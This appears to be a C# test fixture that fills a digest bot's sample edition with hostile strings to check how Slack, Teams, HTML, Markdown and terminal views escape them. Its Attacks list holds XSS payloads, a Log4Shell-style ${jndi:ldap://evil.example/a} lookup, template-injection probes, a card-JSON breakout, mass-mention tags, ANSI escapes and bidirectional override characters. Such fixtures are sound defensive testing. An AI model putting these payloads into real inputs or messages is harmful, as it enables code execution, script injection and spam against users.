using DigestBot.Core.Editions;
using DigestBot.Core.Platforms;
using DigestBot.Core.Ranking;

namespace DigestBot.Tests.Testing;

/// <summary>What Mallory would write: ten touch points of the longest texts, each an attack on some view.</summary>
internal static class WorstEdition
{
    private const string Zalgo = "Z̷̢̛̳̭͎̻̩̪̗̤̈́̈́̋̌̀̽̕͝a̴̡̛̛̫̠͈̙̳̳̔̋̌͒̋̈́̓l̶̢̛̻̠̜̗̖̱͒̄̌̀̕͜g̵̨̛̛̛̗̮̮̘͉̣̈́̓̓̄͒o̸̧̨̦̖̗̩̠̿̿̓͌̍̋";

    /// <summary>Each is one attack, filled up to the longest length by <see cref="Long"/>.</summary>
    public static readonly IReadOnlyList<string> Attacks =
    [
        "<!channel> <@U012AB3CD> <#C024BE91L|general> <https://evil.example|Click here> & &lt;",
        "**bold** _it_ ~no~ `code` [Click here](https://evil.example) ![x](https://evil.example/x.png) # head",
        "<script>alert(1)</script><img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">x</a></details>",
        "<at>Ana</at> <at id=\"29:1\">everyone</at> </at> @channel @here @everyone",
        "\"},{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"},{\"a\":\"",
        "\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u009b1A [red]markup[/] [link=https://evil.example]x[/]",
        "\u202Etxet desrever \u2066isolate\u2069 \u200Fmark مرحبا بالعالم שלום עולם",
        "👩‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🚀🇪🇺 :tada: :rotating_light: 日本語の長い文章です。",
        Zalgo + " \u0000\u0001\u0002\u007f\ud800 \ufeff\u200b\u2028new\u2029line\r\nand\ttab",
        "{{7*7}} ${jndi:ldap://evil.example/a} {0} %s $(DATE(2026-01-01T00:00:00Z)) {{DATE(2017-02-14T06:00:00Z,SHORT)}}",
    ];

    public static EditionCard Card()
    {
        var edition = Editions.OrdinaryEdition();
        var ten = Attacks.Select(Point).ToList();
        return new(edition with
        {
            IsSample = true,
            Brand = Long("<!channel> Brand & Söhne ", 100),
            TouchPoints = ten,
            RunnersUp = [.. Attacks.Take(5).Select((attack, at) => Point(attack, at + 10))],
            Ledger = [.. Attacks.Select((attack, at) => new LedgerLine(Long(attack, 100), Long(attack, 60), (PromiseState)(at % 4), 12_345, 7, Long(attack, 500)))],
            Coverage = [.. Enumerable.Range(0, 20).Select(at => new SourceCoverage(Long($"source-{at}-<!here>-", 50), 1_000_000, (CoverageState)(at % 3), at % 3 == 0 ? null : edition.From.AddDays(at % 7)))],
        }, ten.ToDictionary(point => point.Id, State, StringComparer.Ordinal), "https://digest.example/editions/weekly/2026-W46?a=1&b=2");
    }

    /// <summary>The attack repeated up to exactly <paramref name="length"/> UTF-16 units.</summary>
    public static string Long(string attack, int length) =>
        string.Concat(Enumerable.Repeat(attack, (length / attack.Length) + 1))[..length];

    private static TouchPoint Point(string attack, int at)
    {
        var point = Editions.Point(at + 1, (TouchPointKind)(at % 4), Long(attack, 100), Long(attack, 280), 1_234_567, [null, 0, 1, 2, 3, 400, 5_000, 60_000, 1_234_567]);
        return point with
        {
            Department = Long(attack, 60),
            Reasons = [.. Enumerable.Repeat(Long(attack, 90), 6)],
            Comment = Long(attack, 2_000),
            Correction = at == 3 ? Long(attack, 2_000) : null,
            Quote = point.Quote with { Link = "https://evil.example/" + new string('a', 2_000), Mention = new(Long(attack, 50), attack) },
            Metrics = point.Metrics with { Accounts = [.. Enumerable.Repeat(Long(attack, 100), 20)], Sources = [new(Long(attack, 50), 1_234_567)] },
        };
    }

    private static TouchPointState State(TouchPoint point) => new()
    {
        Owner = Long(point.Headline, 80),
        PickedBy = Long(point.Headline, 80),
        Expected = Long(point.Headline, 2_000),
        Outcome = Long(point.Headline, 2_000),
        OverdueDays = 365,
        Kudos = 100_000,
        Promise = point.Rank % 2 == 0 ? PromiseState.Overdue : null,
    };
}
